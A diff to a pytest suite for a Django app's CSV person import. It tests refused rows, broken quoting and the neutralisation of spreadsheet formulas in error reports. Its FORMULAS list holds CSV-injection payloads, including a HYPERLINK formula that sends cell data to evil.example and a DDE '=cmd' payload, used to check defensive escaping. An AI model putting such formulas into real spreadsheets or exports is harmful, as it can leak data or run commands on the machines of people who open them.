@@ -377,3 +377,128 @@ def test_on_postgres_both_ways_of_writing_give_the_same_people_and_vocabulary(
     assert tokayev.name_variants.count() == 3
     assert tokayev.consents.count() == 1
     assert NameWord.objects.filter(word__in=["tokaev", "kasim"]).count() == 2
+
+
+# --- rows the database would refuse, and broken CSV ---------------------------------------------------------
+
+EDGE_HEADER = ["Name", "E-mail", "City"]
+
+
+def write_text(tmp_path: Path, text: str) -> Path:
+    path = tmp_path / "edge.csv"
+    path.write_text(text, encoding="utf-8", newline="")
+    return path
+
+
+def edge_file(tmp_path: Path, bad: list[str]) -> Path:
+    """A good row, the bad one(s) from line 3, a good row after them."""
+    rows = [",".join(EDGE_HEADER), "Aidos Omarov,aidos@example.org,Almaty", *bad, "Dana Zhakupova,,Astana"]
+    return write_text(tmp_path, "\r\n".join(rows) + "\r\n")
+
+
+@pytest.mark.parametrize(
+    ("bad", "column", "reason"),
+    [
+        (f"Long Mail,{'a' * 250}@example.org,Almaty", "E-mail", "at most 254 characters"),
+        ("Nul\x00Byte,,Almaty", "Name", "U+0000"),
+        ("Bell,,Alm\x07aty", "City", "U+0007"),
+        ('"Two\nLines",,Almaty', "Name", "several lines"),
+        (f"{'x' * 140_000},,Almaty", "Name", "at most 200 characters"),
+    ],
+    ids=["long-email", "nul", "control", "line-break", "cell-over-131072"],
+)
+def test_a_row_the_database_would_refuse_is_that_rows_error_and_writes_nothing(
+    tmp_path: Path, organization: Organization, bad: str, column: str, reason: str
+) -> None:
+    report = run(edge_file(tmp_path, [bad]), organization)
+    assert report.refused and Person.objects.count() == 0
+    assert [(row.line, row.column) for row in report.bad_rows] == [(3, column)]
+    assert reason in report.bad_rows[0].reason
+    assert "\x00" not in report.bad_rows[0].value and len(report.bad_rows[0].value) <= imports.SHOWN_VALUE
+
+
+def test_with_skip_bad_rows_such_rows_are_skipped_and_the_good_ones_written(
+    tmp_path: Path, organization: Organization
+) -> None:
+    """On PostgreSQL a NUL byte or a 260-character e-mail that reached the database failed the whole import."""
+    bad = [f"Long Mail,{'a' * 250}@example.org,Almaty", "Nul\x00Byte,,Almaty", f"{'x' * 140_000},,Almaty"]
+    report = run(edge_file(tmp_path, bad), organization, skip_bad_rows=True)
+    assert (report.imported, report.bad_row_count) == (2, 3)
+    assert sorted(Person.objects.values_list("display_name", flat=True)) == ["Aidos Omarov", "Dana Zhakupova"]
+
+
+def test_a_cell_longer_than_the_reader_takes_is_reported_at_its_line_and_reading_goes_on(
+    tmp_path: Path, organization: Organization
+) -> None:
+    huge = "y" * (imports.FIELD_LIMIT + 10)
+    report = run(edge_file(tmp_path, [f"Huge,,{huge}", "Next Row,not-an-address,Almaty"]), organization)
+    assert report.refused and Person.objects.count() == 0
+    assert [(row.line, row.reason[:25]) for row in report.bad_rows] == [
+        (3, "A cell of this row is lon"),
+        (4, "This is not an e-mail add"),
+    ]
+
+
+def test_an_unclosed_quote_is_reported_where_it_starts_not_as_a_long_name(
+    tmp_path: Path, organization: Organization
+) -> None:
+    report = run(edge_file(tmp_path, ['"Kovács Ödön,,Győr', "Szabó Anna,,Pécs"]), organization)
+    assert report.refused and Person.objects.count() == 0
+    assert [row.line for row in report.bad_rows] == [3]
+    assert report.bad_rows[0].reason.startswith("Unclosed quote starting at line 3")
+
+
+def test_a_quote_closed_rows_later_is_reported_where_it_opens(tmp_path: Path, organization: Organization) -> None:
+    """The opening quote of line 3 pairs with a quote of line 5: lines 3 to 5 would be one cell of a name."""
+    lines = ['"Kovács Ödön,,Győr', "Szabó Anna,,Pécs", 'Nagy Éva,"eva@example.org",Eger', "Last One,,Eger"]
+    report = run(edge_file(tmp_path, lines), organization)
+    assert report.refused and Person.objects.count() == 0
+    assert report.bad_rows[0].line == 3 and "Unclosed quote starting at line 3" in report.bad_rows[0].reason
+    assert "200" not in report.bad_rows[0].reason
+
+
+def test_a_note_over_several_lines_in_a_column_not_imported_is_fine(tmp_path: Path, organization: Organization) -> None:
+    text = 'Name,Note\r\nAidos Omarov,"first line\r\nsecond line"\r\nDana Zhakupova,\r\n'
+    report = run(write_text(tmp_path, text), organization)
+    assert (report.imported, report.bad_row_count) == (2, 0)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)"]
+
+
+def test_the_error_report_neutralises_formulas_like_the_exports(tmp_path: Path, organization: Organization) -> None:
+    from tamyr.core.exports import safe_cell
+
+    rows = [["Name", "E-mail", "Country"], *[["Aidos Omarov", formula, ""] for formula in FORMULAS[:2]]]
+    rows += [["Dana Zhakupova", "", formula] for formula in FORMULAS[2:]]
+    report = run(write_csv(tmp_path, rows), organization)
+    assert report.report_path is not None and report.bad_row_count == 4
+    lines = list(csv.reader(report.report_path.open(encoding="utf-8")))[1:]
+    assert [line[3] for line in lines] == ["'" + formula for formula in FORMULAS]
+    assert [line[2] for line in csv.reader(io.StringIO(imports.report_csv(report)))][1:] == [
+        safe_cell(formula) for formula in FORMULAS
+    ]
+    assert [row.as_dict()["value"] for row in report.bad_rows] == ["'" + formula for formula in FORMULAS]
+
+
+def test_the_page_keeps_and_shows_rows_with_a_nul_byte_and_neutralised_formulas(
+    staff_client: Client, organization: Organization, django_capture_on_commit_callbacks: Any
+) -> None:
+    upload(staff_client, organization, [["Name", "E-mail"], ["Nul\x00Byte", ""], ["Aidos", FORMULAS[1]]])
+    record = PersonImport.objects.get()
+    with django_capture_on_commit_callbacks(execute=True):
+        staff_client.post(
+            f"/people/import/{record.pk}/", {**record.mapping, "encoding": "utf-8", "shown_encoding": "utf-8"}
+        )
+    record.refresh_from_db()
+    assert (record.status, record.bad_row_count) == (ImportStatus.REFUSED, 2)
+    assert [row["value"] for row in record.bad_rows] == ["Nul\\x00Byte", "'" + FORMULAS[1]]
+    report = b"".join(staff_client.get(f"/people/import/{record.pk}/report/").streaming_content)  # type: ignore[attr-defined]
+    assert b"'=cmd|" in report and b",=cmd|" not in report
+
+
+def test_the_report_file_has_the_byte_order_mark_spreadsheets_need_for_utf8(
+    tmp_path: Path, organization: Organization
+) -> None:
+    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization)
+    assert report.report_path is not None and report.report_path.read_bytes().startswith(b"\xef\xbb\xbf")
